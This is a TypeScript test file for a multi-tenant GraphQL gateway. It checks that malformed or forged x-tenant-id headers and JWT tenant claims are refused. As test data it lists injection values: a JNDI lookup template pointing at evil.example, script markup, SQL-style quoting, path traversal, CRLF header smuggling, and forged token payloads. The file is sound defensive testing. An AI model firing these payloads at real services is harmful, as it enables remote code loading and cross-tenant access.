// The tenant: exactly one well-formed x-tenant-id, which must match the token if JWT_TENANT_CLAIM is set.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { boundMemory, expectRefusal } from '../support/attack.ts';
import { gatewayOfFile } from '../support/fixtures.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';
import { type Answer, callerHeaders, firstHolder, post, query } from '../support/query.ts';
import { rawRequest, sendRawOnce } from '../support/raw.ts';

boundMemory();

const gateway = await gatewayOfFile();

const body = '{"query":"{ accounts { id } }"}';
const accepts = ['application/json', 'application/graphql-response+json'];

describe('the tenant of a request', () => {
  async function askWith(lines: readonly string[], accept: string): Promise<Answer> {
    const { authorization } = await callerHeaders(gateway.bank);
    const others = [`Authorization: ${authorization}`, `Accept: ${accept}`];
    return sendRawOnce(gateway, rawRequest({ lines: [...others, ...lines], body }));
  }

  test.each<[string, readonly string[]]>([
    ['no header', []],
    ['an empty header', ['x-tenant-id:']],
    ['spaces', ['x-tenant-id:    ']],
    ['a comma', ['x-tenant-id: aurora,']],
    ['a list', ['x-tenant-id: aurora, cooperativa:litoral']],
    ['a list of equal tenants', ['x-tenant-id: aurora,aurora']],
    ['two equal headers', ['x-tenant-id: aurora', 'x-tenant-id: aurora']],
    ['two different headers', ['x-tenant-id: aurora', 'x-tenant-id: cooperativa:litoral']],
    ['two headers, one empty', ['x-tenant-id: aurora', 'x-tenant-id:']],
    ['two headers in different case', ['x-tenant-id: aurora', 'X-TENANT-ID: aurora']],
    ['a space within', ['x-tenant-id: aur ora']],
    ['a tab within', ['x-tenant-id: aur\tora']],
    ['a semicolon', ['x-tenant-id: aurora;admin']],
    ['quotes', ['x-tenant-id: "aurora"']],
    ['an apostrophe', ["x-tenant-id: aurora'--"]],
    ['a slash', ['x-tenant-id: aurora/../litoral']],
    ['a backslash', ['x-tenant-id: aurora\\x']],
    ['a percent sign', ['x-tenant-id: aur%6fra']],
    ['an encoded line feed', ['x-tenant-id: aurora%0d%0ax-tenant-id: b']],
    ['a question mark', ['x-tenant-id: aurora?']],
    ['an asterisk', ['x-tenant-id: *']],
    ['an at sign', ['x-tenant-id: a@b']],
    ['braces', ['x-tenant-id: {aurora}']],
    ['a template', ['x-tenant-id: ${jndi:ldap://evil.example}']],
    ['markup', ['x-tenant-id: <script>']],
    ['a plus sign', ['x-tenant-id: aurora+litoral']],
    ['an equals sign', ['x-tenant-id: tenant=aurora']],
    ['Latin-1', ['x-tenant-id: a\xe7\xe3o']],
    ['a no-break space', ['x-tenant-id: aurora\xa0']],
    ['Cyrillic', ['x-tenant-id: \xd0\xb0urora']],
    ['a byte order mark', ['x-tenant-id: \xef\xbb\xbfaurora']],
    ['129 characters', [`x-tenant-id: ${'a'.repeat(129)}`]],
    ['12 KB', [`x-tenant-id: ${'a'.repeat(12_000)}`]],
    ['another header of a similar name', ['tenant-id: aurora']],
    ['an underscore for a dash', ['x_tenant_id: aurora']],
    ['a cookie', ['Cookie: x-tenant-id=aurora']],
  ])(
    'is rejected because it is not one well-formed x-tenant-id header: %s',
    async (_name, lines) => {
      for (const accept of accepts) {
        const refused = { status: 400, code: 'TENANT_REQUIRED' };
        const answer = await expectRefusal(gateway, refused, () => askWith(lines, accept));
        expect(answer.headers.get('www-authenticate')).toBeNull();
      }
    },
  );

  test.each([
    ['a carriage return', 'x-tenant-id: aur\rora'],
    ['a line feed', 'x-tenant-id: aur\nora'],
    ['a folded line', 'x-tenant-id: aur\r\n ora'],
    ['a null byte', 'x-tenant-id: aurora\0'],
    ['a vertical tab', 'x-tenant-id: aurora\x0b'],
    ['a space before the colon', 'x-tenant-id : aurora'],
    ['a line feed in its name', 'x-tenant\n-id: aurora'],
  ])('makes the request malformed if its header has %s', async (_name, line) => {
    const malformed = { status: 400, code: 'BAD_REQUEST' };
    await expectRefusal(gateway, malformed, () => askWith([line], 'application/json'));
  });
});

describe('JWT_TENANT_CLAIM', () => {
  let strict: TestGateway;
  beforeAll(async () => {
    strict = await startTestGateway({ JWT_TENANT_CLAIM: 'tenant' }, { bank: gateway.bank });
  });
  afterAll(() => strict.close());

  async function askAs(claims: Readonly<Record<string, unknown>>, tenant = 'aurora') {
    const { bank } = gateway;
    const headers = await callerHeaders(bank, firstHolder(bank), claims);
    return post(strict, body, { headers: { ...headers, 'x-tenant-id': tenant } });
  }

  test.each<[string, Readonly<Record<string, unknown>>, string?]>([
    ['another tenant', {}, 'cooperativa:litoral'],
    ['a tenant with the right prefix', {}, 'aurora2'],
    ['a tenant with the right suffix', {}, 'x:aurora'],
    ['a tenant in another case', {}, 'Aurora'],
    ['a token without a tenant', { tenant: undefined }],
    ['a token whose tenant is null', { tenant: null }],
    ['a token with a list of tenants', { tenant: ['aurora'] }],
    ['a token whose tenant is *', { tenant: '*' }],
    ['a token whose tenant is a number', { tenant: 1 }, '1'],
    ['a token whose tenant is an object', { tenant: { aurora: true } }],
    ['a token whose tenant is an empty object', { tenant: {} }, 'Object'],
    ['a token with several tenants, separated by commas', { tenant: 'aurora,cooperativa:litoral' }],
    ['a token whose tenant ends with a space', { tenant: 'aurora ' }],
    ['a claim in another case', { tenant: undefined, Tenant: 'aurora' }],
  ])('rejects %s', async (_name, claims, tenant) => {
    const forbidden = { status: 403, code: 'FORBIDDEN' };
    await expectRefusal(strict, forbidden, () => askAs(claims, tenant));
    // The same request is sent again, because the token may be cached now.
    await expectRefusal(strict, forbidden, () => askAs(claims, tenant));
  });

  test('rejects a token with two tenant claims if only the first one matches', async () => {
    const { authorization } = await callerHeaders(gateway.bank);
    const payload = Buffer.from('{"tenant":"aurora","tenant":"other","sub":"x"}');
    const token = authorization.split('.').with(1, payload.toString('base64url')).join('.');
    const ask = () => query(strict, '{ accounts { id } }', { headers: { authorization: token } });
    await expectRefusal(strict, { status: 403, code: 'FORBIDDEN' }, ask);
  });

  test.each(['constructor', 'toString', '__proto__'])(
    'rejects a token without the claim, even if the claim has the name of a built-in property: %s',
    async (name) => {
      await using odd = await startTestGateway({ JWT_TENANT_CLAIM: name }, { bank: gateway.bank });
      const answer = await query(odd, '{ accounts { id } }');
      expect(answer.status).toBe(403);
    },
  );

  test('is found in a token whose issuer escapes slashes, even after a forged token has made JSON.parse misread it', async () => {
    const name = 'https://bank.example/tenant';
    const { bank } = gateway;
    const escaped = name.replaceAll('/', '\\/');
    // In Node.js 24, JSON.parse can then give this name to the escaped one, which begins with it (nodejs/node#63785).
    const misread = escaped.slice(0, name.length);
    const { authorization } = await callerHeaders(bank);
    const withPayload = (payload: string) =>
      authorization.split('.').with(1, Buffer.from(payload).toString('base64url')).join('.');
    await using odd = await startTestGateway({ JWT_TENANT_CLAIM: name }, { bank });
    const codeWith = async (payload: string) => {
      const headers = { authorization: withPayload(payload) };
      const { errors } = await query(odd, '{ accounts { id } }', { headers });
      return errors?.[0]?.extensions.code;
    };
    expect(await codeWith(JSON.stringify({ sub: 'x', [misread]: 'aurora' }))).toBe('FORBIDDEN');
    // The bank rejects the token, because its payload was changed; the gateway has accepted it.
    expect(await codeWith(`{"sub":"x","${escaped}":"aurora"}`)).toBe('UNAUTHENTICATED');
  });

  test('rejects another tenant even if the token is cached for its own tenant', async () => {
    expect((await askAs({})).status).toBe(200);
    expect((await askAs({}, 'cooperativa:litoral')).status).toBe(403);
    expect((await askAs({})).status).toBe(200);
  });
});
